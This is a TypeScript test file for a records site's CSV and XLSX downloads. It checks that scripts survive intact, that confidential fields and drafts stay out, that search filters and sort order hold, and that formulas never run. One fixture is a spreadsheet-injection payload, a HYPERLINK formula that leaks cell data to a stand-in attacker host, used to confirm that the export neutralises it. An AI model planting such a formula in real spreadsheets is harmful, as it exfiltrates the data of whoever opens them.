import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { COMPANY_ROLES } from '../src/domain/enumerations.ts';
import type { StoredRecord } from '../src/domain/record.ts';
import { aRecord } from './support/records.ts';
import { serveFixtures } from './support/served.ts';
import { STORE_BACKENDS } from './support/stores.ts';

/**
 * The CSV and XLSX downloads as a spreadsheet engine opens them (exceljs reading the workbook, and reading the
 * CSV back): names in any script intact, labels beside ids, a column per company role, each record's URL,
 * formulas never run, nothing confidential, and exactly the records the search finds.
 */

const SITE = 'https://bhr.example.org';
const MARKER = 'SHEET-CONFIDENTIAL-5120';
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"details")';

const RECORDS = {
  cyrillic: aRecord({
    status: 'published',
    title: 'Рабочие «Вайлдберриз» сообщают о невыплате зарплаты',
    dateReported: '2025-05-01',
    location: { country: 'RU', city: 'Москва' },
    companies: [
      { name: 'ООО «Вайлдберриз»', role: 'Employer' },
      { name: 'Кадровое агентство «Старт»', role: 'Recruitment agency' },
    ],
    issues: ['wage-theft', 'forced-labour-modern-slavery'],
    internalNotes: `Named worker ${MARKER}`,
    sources: [
      { companies: ['ООО «Вайлдберриз»'], headline: 'Зарплату не платят', excerpt: 'Первый абзац.\nВторой.' },
      { companies: [], headline: `Restricted ${MARKER}`, excerpt: MARKER, restricted: true },
    ],
  }),
  chinese: aRecord({
    status: 'published',
    title: '深圳电子厂工人被拖欠工资',
    dateReported: '2025-04-01',
    location: { country: 'CN', city: '深圳' },
    companies: [
      { name: '富士康科技集团', role: 'Supplier' },
      { name: 'Example Phones Inc', role: 'Buyer' },
      { name: 'Other Phones Ltd', role: 'Buyer' },
    ],
    issues: ['wage-theft'],
  }),
  arabic: aRecord({
    status: 'published',
    title: FORMULA,
    summary: 'عمال البناء في الدوحة لم يتقاضوا أجورهم',
    dateReported: '2025-03-01',
    location: { country: 'QA', city: 'الدوحة' },
    companies: [{ name: 'شركة الخليج للمقاولات', role: 'Contractor' }],
    issues: ['wage-theft'],
  }),
  draft: aRecord({
    status: 'draft',
    title: 'Unpublished draft about wages',
    dateReported: '2025-06-01',
    issues: ['wage-theft'],
  }),
};

type Rows = Record<string, string | number>[];

async function workbookRows(
  body: Buffer,
): Promise<{ header: string[]; rows: Rows; types: Map<string, number> }> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  const header = (sheet.getRow(1).values as string[]).slice(1);
  const rows: Rows = [];
  const types = new Map<string, number>();
  sheet.eachRow((row, number) => {
    if (number === 1) return;
    const values: Record<string, string | number> = {};
    header.forEach((name, index) => {
      const cell = row.getCell(index + 1);
      values[name] = (cell.value as string | number | null) ?? '';
      types.set(`${number}:${name}`, cell.type);
    });
    rows.push(values);
  });
  return { header, rows, types };
}

/** The CSV download read back by the same engine (exceljs's CSV reader), cells as the text it shows. */
async function csvThroughSpreadsheet(text: string): Promise<string[][]> {
  const workbook = new ExcelJS.Workbook();
  const sheet = await workbook.csv.read(Readable.from([text]), { parserOptions: {} } as never);
  const width = sheet.getRow(1).cellCount;
  // The engine reads an ISO date as a date, as a spreadsheet does: shown here as the same ISO date.
  const shown = (value: unknown) =>
    value instanceof Date ? value.toISOString().slice(0, 10) : String(value ?? '');
  const rows: string[][] = [];
  sheet.eachRow((row) =>
    rows.push(Array.from({ length: width }, (_, index) => shown(row.getCell(index + 1).value))),
  );
  return rows;
}

describe.each(STORE_BACKENDS)('spreadsheet downloads, on $name', (backend) => {
  const served = serveFixtures(backend, RECORDS, { publicUrl: SITE });

  const download = async (url: string) => {
    const response = await served.app.inject({ url, headers: { host: 'evil.example' } });
    expect(response.statusCode, url).toBe(200);
    return response;
  };

  it.each(['/search.xlsx', '/api/v1/export.xlsx'])(
    '%s opens in exceljs with one row per record',
    async (url) => {
      const response = await download(url);
      expect(response.headers['content-type']).toBe(
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      );
      expect(response.headers['content-disposition']).toBe('attachment; filename="bhr-records.xlsx"');
      const { header, rows } = await workbookRows(response.rawPayload);
      for (const role of COMPANY_ROLES) expect(header).toContain(role);
      expect(header).not.toContain('internalNotes');
      expect(rows.map((row) => row.title).sort()).toEqual(
        [RECORDS.cyrillic.title, RECORDS.chinese.title, RECORDS.arabic.title].sort(),
      );
    },
  );

  it('keeps Cyrillic, Chinese and Arabic intact, with labels, names and each record’s URL', async () => {
    const { rows } = await workbookRows((await download('/search.xlsx')).rawPayload);
    const byId = new Map(rows.map((row) => [row.id, row]));
    expect(byId.get(served.saved.cyrillic!.id)).toMatchObject({
      url: `${SITE}/records/${served.saved.cyrillic!.slug}`,
      locationCountry: 'RU',
      locationCountryName: 'Russia',
      locationCity: 'Москва',
      issues: 'wage-theft\nforced-labour-modern-slavery',
      issueLabels: 'Wage theft\nForced Labour & Modern Slavery',
      Employer: 'ООО «Вайлдберриз»',
      'Recruitment agency': 'Кадровое агентство «Старт»',
      Buyer: '',
      sourceHeadline: 'Зарплату не платят',
      sourceExcerpt: 'Первый абзац.\\nВторой.',
      affectedGroupType: 'Migrant & immigrant workers',
      affectedGroupOrigin: 'Nepal',
      affectedGroupSector: 'Manufacturing',
      affectedTotal: 120,
    });
    expect(byId.get(served.saved.chinese!.id)).toMatchObject({
      title: '深圳电子厂工人被拖欠工资',
      locationCountryName: 'China',
      Supplier: '富士康科技集团',
      Buyer: 'Example Phones Inc\nOther Phones Ltd',
    });
    expect(byId.get(served.saved.arabic!.id)).toMatchObject({
      summary: 'عمال البناء في الدوحة لم يتقاضوا أجورهم',
      locationCity: 'الدوحة',
      Contractor: 'شركة الخليج للمقاولات',
    });
  });

  it('writes a formula-like title as a string cell, never as a formula, and counts as numbers', async () => {
    const { rows, types } = await workbookRows((await download('/search.xlsx')).rawPayload);
    const index = rows.findIndex((row) => row.id === served.saved.arabic!.id);
    expect(rows[index]!.title).toBe(FORMULA);
    expect(types.get(`${index + 2}:title`)).toBe(ExcelJS.ValueType.String);
    expect(types.get(`${index + 2}:affectedTotal`)).toBe(ExcelJS.ValueType.Number);
    for (const [key, type] of types) expect(type, key).not.toBe(ExcelJS.ValueType.Formula);
  });

  it('keeps confidential fields and unpublished records out of both files', async () => {
    const { rows } = await workbookRows((await download('/search.xlsx')).rawPayload);
    const csv = (await download('/search.csv')).body;
    for (const text of [JSON.stringify(rows), csv]) {
      expect(text).not.toContain(MARKER);
      expect(text).not.toContain('Unpublished draft');
    }
    expect(csv.split('\n')[0]).not.toMatch(/internalNotes|restricted|retractionReason|mergedInto/);
  });

  it('gives the CSV a byte-order mark, and the same table as the workbook once read back', async () => {
    const csv = (await download('/search.csv')).body;
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const { header, rows } = await workbookRows((await download('/search.xlsx')).rawPayload);
    const read = await csvThroughSpreadsheet(csv);
    expect(read[0]).toEqual(header);
    // The CSV guards a cell that starts like a formula with a quote; otherwise the cells are the same.
    const unguard = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);
    expect(read.slice(1).map((row) => row.map(unguard))).toEqual(
      rows.map((row) => header.map((name) => String(row[name]))),
    );
    const parsed = parse(csv, { columns: true, bom: true }) as Record<string, string>[];
    expect(parsed.find((row) => row.id === served.saved.arabic!.id)!.title).toBe(`'${FORMULA}`);
  });

  it('honours the search’s filters: the rows are the records the search finds', async () => {
    for (const search of [
      'country=CN',
      'issue=forced-labour-modern-slavery',
      'q=%D0%B7%D0%B0%D1%80%D0%BF%D0%BB%D0%B0%D1%82%D1%8B',
      'country=ZW',
    ]) {
      const found = (await served.app.inject(`/api/v1/records?${search}&pageSize=100`)).json()
        .data as StoredRecord[];
      const { rows } = await workbookRows((await download(`/search.xlsx?${search}`)).rawPayload);
      const csv = parse((await download(`/search.csv?${search}`)).body, { columns: true, bom: true }) as {
        id: string;
      }[];
      const ids = found.map((record) => record.id).sort();
      expect(rows.map((row) => String(row.id)).sort(), search).toEqual(ids);
      expect(csv.map((row) => row.id).sort(), search).toEqual(ids);
    }
  });

  it('lists the rows in the search’s sort order, as the search pages do', async () => {
    for (const search of ['sort=oldest', 'sort=newest', 'q=wages', 'q=wages&sort=oldest']) {
      const found = (await served.app.inject(`/api/v1/records?${search}&pageSize=100`)).json()
        .data as StoredRecord[];
      const ids = found.map((record) => record.id);
      expect(ids.length, search).toBeGreaterThan(0);
      const { rows } = await workbookRows((await download(`/search.xlsx?${search}`)).rawPayload);
      const csv = parse((await download(`/search.csv?${search}`)).body, { columns: true, bom: true }) as {
        id: string;
      }[];
      const ndjson = (await download(`/api/v1/export.ndjson?${search}`)).body
        .trim()
        .split('\n')
        .map((line) => (JSON.parse(line) as StoredRecord).id);
      expect(
        rows.map((row) => String(row.id)),
        search,
      ).toEqual(ids);
      expect(
        csv.map((row) => row.id),
        search,
      ).toEqual(ids);
      expect(ndjson, search).toEqual(ids);
    }
    const oldest = (await workbookRows((await download('/search.xlsx?sort=oldest')).rawPayload)).rows;
    expect(oldest.map((row) => row.id)).toEqual([
      served.saved.arabic!.id,
      served.saved.chinese!.id,
      served.saved.cyrillic!.id,
    ]);
  });

  it('refuses a bad filter with a 400 that says what was wrong', async () => {
    const response = await served.app.inject('/search.xlsx?country=Atlantis');
    expect(response.statusCode).toBe(400);
    expect(response.body).toContain('ISO 3166-1 alpha-2');
  });

  it('is linked from the search page next to the CSV', async () => {
    const page = (await served.app.inject('/search?country=CN')).body;
    expect(page).toMatch(/href="\/search\.csv\?country=CN"[^]*href="\/search\.xlsx\?country=CN"/);
  });
});
